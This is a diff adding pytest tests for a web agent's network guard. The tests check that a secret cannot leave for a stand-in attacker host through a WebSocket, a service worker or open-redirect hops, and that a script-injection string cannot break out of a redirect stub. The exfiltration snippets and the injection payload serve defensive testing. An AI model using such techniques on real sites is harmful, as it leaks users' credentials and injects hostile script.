@@ -1,0 +1,154 @@
+"""Ways round the network guard that the agent-level escape tests do not drive: a WebSocket, a service worker,
+and the redirect hops of a subresource that carries a secret. The hostile page's own script does the sending
+(no model needed); the attacker (127.0.0.2) must receive nothing that carries the secret."""
+
+from __future__ import annotations
+
+import pytest
+import pytest_asyncio
+
+from tests.hostile import SECRET, Hostile
+from webagent.safety import Secrets
+
+
+@pytest.fixture(scope="module")
+def hostile():
+    with Hostile() as h:
+        yield h
+
+
+@pytest_asyncio.fixture
+async def guarded(browser_session, hostile):
+    """The shared browser, allowlist = the victim's origin, {{PW}} bound to it, on the victim's home page."""
+    saved = browser_session.config.allowed_domains
+    browser_session.config.allowed_domains = []
+    await browser_session.new_context()
+    browser_session.secrets = Secrets({"PW": SECRET})
+    await browser_session.goto(hostile.url + "/")
+    hostile.attacker.hits.clear()
+    yield browser_session
+    browser_session.secrets = Secrets()
+    browser_session.config.allowed_domains = saved
+    browser_session.config.network = "default"
+
+
+WS_JS = """async ([a, v]) => await new Promise((done) => {
+  let ws; try { ws = new WebSocket(a.replace('http', 'ws') + '/collect?ws=' + v); } catch (e) { return done('refused'); }
+  ws.onopen = () => done('open'); ws.onerror = () => done('error'); ws.onclose = () => done('closed'); })"""
+
+
+async def test_a_websocket_carrying_a_secret_is_refused(guarded, hostile):
+    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, SECRET])
+    assert hostile.attacker.leaked() == [], hostile.attacker.hits
+    assert any("127.0.0.2" in n and "{{PW}}" in n for n in guarded.notices), guarded.notices
+    await guarded.page.evaluate(WS_JS, [hostile.url, SECRET])  # to its own host the secret may go
+    assert hostile.attacker.hits == []
+
+
+async def test_strict_network_covers_websockets(guarded, hostile):
+    guarded.config.network = "strict"
+    await guarded.new_context()
+    await guarded.goto(hostile.url + "/")
+    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, "nothing-secret"])
+    assert hostile.attacker.hits == []
+    assert any("--network strict" in n for n in guarded.notices), guarded.notices
+
+
+SW_JS = """async (v) => {
+  const reg = await navigator.serviceWorker.register('/sw.js');
+  if (!reg) return 'not registered';
+  const sw = (await navigator.serviceWorker.ready).active;
+  return await new Promise((done) => { navigator.serviceWorker.onmessage = (e) => done(e.data); sw.postMessage(v); });
+}"""
+
+
+async def test_a_service_worker_cannot_send_a_secret_out(guarded, hostile):
+    said = await guarded.page.evaluate(SW_JS, SECRET)
+    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
+    assert said == "failed"  # the worker ran and its request was refused
+
+
+FETCH_JS = """async ([url, body]) => { try {
+  await fetch(url, body ? {method: 'POST', body, mode: 'no-cors'} : {mode: 'no-cors'}); return 'fetched';
+} catch (e) { return 'failed'; } }"""
+
+
+@pytest.mark.parametrize("how", ["url", "body"])
+async def test_a_redirect_hop_cannot_carry_a_secret_elsewhere(guarded, hostile, how):
+    """The first request goes to the secret's own host (allowed); an open redirect there would pass it on."""
+    a = hostile.attacker.url
+    if how == "url":  # 302: the secret rides in the next hop's URL
+        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to={a}/collect%3Fhop%3D{SECRET}", None])
+    else:  # 307: the browser re-sends the body to the next hop
+        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect307?to={a}/collect", f"pw={SECRET}"])
+    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
+    assert said == "failed"
+    assert any("redirect hop" in n for n in guarded.notices), guarded.notices
+    ok = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to=/file.txt%3Fq%3D{SECRET}", None])
+    assert ok == "fetched"  # a hop that stays at home still works
+
+
+def test_a_redirect_stub_cannot_be_turned_into_a_script():
+    """The guard serves a checked redirect hop as a small page at the redirecting URL: a Location header holding
+    `</script>` must not end its script early and run the rest in that origin (the browser never would)."""
+    import json
+
+    from webagent.browser import _redirect_stub
+    target = "http://127.0.0.1:1/x</script><script>document.title='pwned'</script>"
+    stub = _redirect_stub(target)
+    assert stub.lower().count("</script") == 1 and "<script>document.title" not in stub
+    script = stub.split("<script>", 1)[1].rsplit("</script>", 1)[0]
+    assert json.loads(script.removeprefix("location.replace(").removesuffix(")")) == target
+
+
+async def test_redirect_stubs_reach_the_har_when_the_config_moved_on(guarded, hostile, tmp_path):
+    """The benchmark runner clears `record_har` before closing the episode's context (which writes the HAR): the
+    stub bodies the guard served must still be filled in, or a HAR replay stops on an empty page."""
+    import json
+
+    from webagent.settle import REDIRECT_MARK
+    har = tmp_path / "network.har"
+    guarded.config.record_har = har
+    try:
+        await guarded.new_context()
+        await guarded.goto(hostile.url + "/redirect?to=/")
+    finally:
+        guarded.config.record_har = None
+    await guarded.new_context()
+    entries = json.loads(har.read_text())["log"]["entries"]
+    hop = [e for e in entries if "/redirect?" in e["request"]["url"]]
+    assert hop and REDIRECT_MARK in hop[0]["response"]["content"].get("text", ""), hop
+
+
+async def test_a_secret_refused_by_a_typed_field_is_not_in_the_error(guarded):
+    """A secret typed into a number field is refused before typing; the error names the format, not the value."""
+    from webagent.errors import TypingMismatch
+    from webagent.fields import type_verified
+    await guarded.page.set_content("<input aria-label=PIN type=number>")
+    secrets = guarded.secrets
+    with pytest.raises(TypingMismatch) as err:
+        await type_verified(guarded.page.get_by_label("PIN"), "PIN", SECRET, 2000, secrets.redact)
+    assert SECRET not in str(err.value) and "{{PW}}" in str(err.value), str(err.value)
+
+
+COMBO = """<input role=combobox aria-label=Language aria-controls=lb id=c>
+<div role=listbox id=lb hidden><div role=option>Java</div><div role=option>JavaScript</div></div>
+<script>c.onclick = () => { lb.hidden = false; };
+lb.onclick = (e) => { c.value = e.target.textContent === 'Java' ? 'JavaScript' : e.target.textContent;
+                      lb.hidden = true; };</script>"""
+
+
+async def test_select_on_a_combobox_checks_the_whole_option(guarded):
+    """(issue 10's verified select) A combobox that shows `JavaScript` after `Java` was clicked did not take it."""
+    from webagent.choose import select
+    from webagent.errors import ElementNotActionable
+    page = guarded.page
+    await page.set_content(COMBO)
+
+    async def settled() -> None:
+        return None
+    with pytest.raises(ElementNotActionable, match="shows 'JavaScript'"):
+        await select(page, page.main_frame, page.locator("#c"), "combobox 'Language'", "Java", 2000, settled)
+    await page.set_content(COMBO)
+    assert await select(page, page.main_frame, page.locator("#c"), "combobox 'Language'", "JavaScript", 2000,
+                        settled) == ["JavaScript"]
